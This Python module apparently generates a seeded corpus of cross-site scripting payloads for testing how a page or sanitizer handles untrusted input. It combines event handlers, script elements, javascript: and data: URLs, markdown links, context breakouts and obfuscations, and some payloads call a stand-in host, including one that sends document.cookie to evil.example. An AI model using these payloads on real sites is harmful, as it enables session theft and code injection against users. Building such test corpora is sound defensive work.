# ruff: noqa: E501  (a payload is one string)
"""Texts that call ``pwn`` or ask ``evil.example`` wherever a page takes them for more than text.

All are made here, by ways into a page × ways to run × disguises, in an order that a seed fixes.
"""

import random
from functools import cache
from itertools import product

EVIL = "evil.example"
CALLS = (
    "pwn(1)", "pwn`1`", "top.pwn(1)", "window['pwn'](1)", "[1].map(pwn)", "eval('pwn(1)')",
    "setTimeout('pwn(1)')", "new Function('pwn(1)')()", f"import('//{EVIL}/x.js')",
    f"fetch('//{EVIL}/?'+document.cookie)", "alert(1)", "(0,pwn)(1)", "self?.pwn?.(1)",
    f"navigator.sendBeacon('//{EVIL}')", f"new Image().src='//{EVIL}'", "throw onerror=pwn,1",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror={js}>", "<svg onload={js}>", "<svg/onload={js}>", "<body onload={js}>",
    "<iframe onload={js}></iframe>", "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}></audio>", "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}><option>x</select>", "<details open ontoggle={js}>x</details>",
    "<a id=x tabindex=1 autofocus onfocus={js}>x</a>", "<marquee onstart={js}>x</marquee>",
    "<style onload={js}></style>", "<link rel=stylesheet href=/static/x onerror={js}>",
    "<object data=x onerror={js}></object>", "<embed src=x onerror={js}>",
    "<video src=x onloadstart={js}></video>", "<image src=x onerror={js}>",
    "<div style=animation:rise onanimationstart={js}>x</div>", "<img srcset=x onerror={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>", "<svg><set onbegin={js} dur=1s>",
    "<div contenteditable autofocus onfocus={js}>x</div>", "<p onpointerover={js}>x</p>",
    "<i oncontentvisibilityautostatechange={js} style=display:block;content-visibility:auto>x</i>",
    "<div popover id=p onbeforetoggle={js}>x</div><button autofocus popovertarget=p>x</button>",
    "<math><mtext><img src=x onerror={js}></mtext></math>", "<input type=image src=x onerror={js}>",
    "<script src=/static/x onerror={js}></script>", "<dialog open oncancel={js}>x</dialog>",
)  # fmt: skip
ELEMENTS = (
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script/x>{js}</script/x>",
    "<script type=module>{js}</script>", "<scr<script>ipt>{js}</scr</script>ipt>",
    '<script nonce="">{js}</script>', "<svg><script>{js}</script></svg>",
    "<script src=data:text/javascript,{js}></script>", f"<script src=//{EVIL}/x.js></script>",
    "<svg><script href=data:text/javascript,{js} /></svg>", "<script src=/api/v1/?{js}></script>",
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    "<iframe src=javascript:parent.{js}></iframe>", f"<iframe src=//{EVIL}></iframe>",
    "<iframe src='data:text/html,<script>{js}</script>'></iframe>",
    "<object data=javascript:{js}></object>", f"<object data=//{EVIL}></object>",
    "<embed src=javascript:{js}>", f"<base href=//{EVIL}/>", "<a href=javascript:{js}>x</a>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<button formaction=javascript:{js} form=x>x</button>", "<area href=javascript:{js}>",
    "<svg><a xlink:href=javascript:{js}><text>x</text></a></svg>", "<math href=javascript:{js}>x",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}></svg>#x'></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{js} /><a id=x>x</a></svg>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>", f"<link rel=prefetch href=//{EVIL}/>",
    f"<link rel=dns-prefetch href=//{EVIL}/>", f"<style>@import '//{EVIL}/x.css'</style>",
    f"<style>*{{{{background:url(//{EVIL}/c)}}}}</style>", f"<img src=//{EVIL}/p.png>",
    f"<video poster=//{EVIL}/p.png></video>", f"<input type=image src=//{EVIL}/p.png>",
    f"<p style='background:url(//{EVIL}/b)'>x</p>", f"<table background=//{EVIL}/t><td>x</table>",
    "<template><script>{js}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={js}></template>",
    f"<div hx-get=//{EVIL}/x hx-trigger=load>x</div>", "<div hx-on:htmx:load={js}>x</div>",
    "<div hx-get=/ hx-trigger='load[{js}]'>x</div>",
    "<div hx-get=/ hx-trigger=load hx-vals='js:{{a:{js}}}'>x</div>",
    "<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"//" + EVIL + "\"]}}]}}</script>",
    "<script type=importmap>{{\"imports\":{{\"./sse.js\":\"//" + EVIL + "/x.js\"}}}}</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<!--><img src=x onerror={js}>-->", "<![CDATA[><img src=x onerror={js}>]]>",
    "<?xml-stylesheet href=javascript:{js}?>", "<xss id=BotSmith name=BotSmith>x</xss>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "\x01javascript:{js}", " javascript:{js}",
    "java\tscript:{js}", "java\nscript:{js}", "javascript\r:{js}", "java&#10;script:{js}",
    "&#106;avascript:{js}", "&#x6A;avascript&colon;{js}", "javascript://x.example/%0a{js}",
    "javascript:/*https://x.example*/{js}", "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AucHduKDEpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload={js}>",
    "vbscript:{js}", "view-source:javascript:{js}", "blob:javascript:{js}", "jar:javascript:{js}",
    "javascript&Tab;:{js}", "\u2028javascript:{js}", "filesystem:javascript:{js}",
    "https://x.example/\" onmouseover={js} x=\"", "//evil.example/\"><img src=x onerror={js}>",
)  # fmt: skip
# Of another host, as browsers read them; the first is a picture that may well be one.
ELSEWHERE = (
    f"https://{EVIL}/p.png", f"//{EVIL}/p.png", f"/\\{EVIL}/p.png", f"/\t/{EVIL}/p.png",
    f"http:{EVIL}/p.png", f"\\\\{EVIL}/p.png", f"https://{EVIL}\\@x.example/p.png",
)  # fmt: skip
MARKDOWN = (
    "[x]({a})", "![x]({a})", "<{a}>", "[x]: {a}\n\n[x]", "![x][y]\n\n[y]: {a}", "[x](<{a}>)",
    "[![x]({a})]({a})", '[x](https://x.example "{a}")', "[x](https://x.example '\" onclick={js} ')",
    "```html\n{a}\n```", "`{a}`", "| a |\n|---|\n| {a} |", "[x]({a} \"t\")", "# [x]({a})",
    "[1]: {a}\n[1]", "**{a}**", "- [x]({a})\n  - {a}", "> {a}", "[a](https://x.example/?{a})",
)  # fmt: skip
BREAKS = (
    "{v}", '">{v}', "'>{v}", "`>{v}", "--></style></script></title></textarea></noscript>{v}",
    "</title>{v}", "</textarea>{v}", "</style>{v}", "</script>{v}", "]]>{v}", "\\\">{v}", "x\n\n{v}\n\n",
    "&quot;>{v}", "<a title='{v}'>", "%3E{v}", "\x00{v}", "\ufeff{v}", "<!--{v}-->", "<x {v}",
    "\n\nevent: done\ndata: {v}\n\n", "{{{{{v}}}}}", "[{v}](https://x.example)", "&#x3c;!--{v}",
)  # fmt: skip
ATTRIBUTES = (
    '" autofocus onfocus={js} x="', "' autofocus onfocus={js} x='", '" onmouseover="{js}" x="',
    "x onerror={js} ", '"style="animation:rise"onanimationstart="{js}', "` onfocus={js} autofocus `",
    "';{js};//", '";{js};//', "\\';{js};//", "\u2028{js}//", "*/{js}/*", "-{js}-", "'-{js}-'",
    '"}}];{js};//', "${{{js}}}", "{{{{{js}}}}}", "#{{{js}}}", "<%= {js} %>", "{{% debug %}}",
    "{{{{constructor.constructor('{js}')()}}}}", "red;}}*{{background:url(//evil.example/c)}}",
    "#fff;background:url(//evil.example/c)", "expression({js})", "url(javascript:{js})",
    "x;}}@import'//evil.example/x.css';{{", "Arial\";background:url(//evil.example/f);\"",
    "x\r\nContent-Security-Policy: script-src *\r\n\r\n<script>{js}</script>",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-", "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e", "\\u003cimg src=x onerror={js}\\u003e",
    "&lt;img src=x onerror={js}&gt;", "&amp;lt;script&amp;gt;{js}", "%3Cscript%3E{js}%3C/script%3E",
)  # fmt: skip
DISGUISES = (
    lambda text: text,
    lambda text: text.replace("<img ", "<img/").replace(" onerror", "/onerror"),
    lambda text: text.replace("=x ", "\n=\nx\n").replace("<s", "<s", 1),
    lambda text: text.replace("on", "oN").replace("<i", "<I"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace(">", "//\n>"),
)
# What leads the page away or ends it: where nothing is escaped, the rest would not be tried.
LEADS_AWAY = ("http-equiv", "<noscript", "\x00")


def _all() -> list[str]:
    vectors = [*HANDLERS, *ELEMENTS]
    plain = [each.format(js=js) for each, js in product(vectors, CALLS)]
    broken = [way.format(v=each) for way, each in product(BREAKS, plain)]
    inside = [each.format(js=js) for each, js in product(ATTRIBUTES, CALLS)]
    led = [each.format(js=js) for each, js in product(ADDRESSES, CALLS)]
    marked = [each.format(a=a, js=CALLS[0]) for each, a in product(MARKDOWN, led)]
    disguised = [how(each) for how, each in product(DISGUISES, plain)]
    return list(dict.fromkeys([*broken, *inside, *led, *marked, *disguised]))


@cache
def addresses() -> tuple[str, ...]:
    """What a link or a picture would lead to; those of other hosts stand among the others."""
    run = [each.format(js="pwn(1)") for each in ADDRESSES]
    return tuple(each for pair in zip(run, ELSEWHERE * 4, strict=False) for each in pair)


@cache
def payloads(count: int) -> tuple[str, ...]:
    """So many different ones; each way in is among the first hundred and fifty."""
    chance = random.Random(7)
    ways = [*HANDLERS, *ELEMENTS, *ATTRIBUTES, *ADDRESSES]
    first = [each.format(js=CALLS[n % len(CALLS)]) for n, each in enumerate(ways)]
    first += [
        each.format(a=ADDRESSES[n % len(ADDRESSES)].format(js="pwn(1)"), js="pwn(1)")
        for n, each in enumerate(MARKDOWN)
    ]
    others = _all()
    chance.shuffle(others)
    found = list(dict.fromkeys([*first, *others]))
    assert len(found) >= count, len(found)
    return tuple(found[:count])
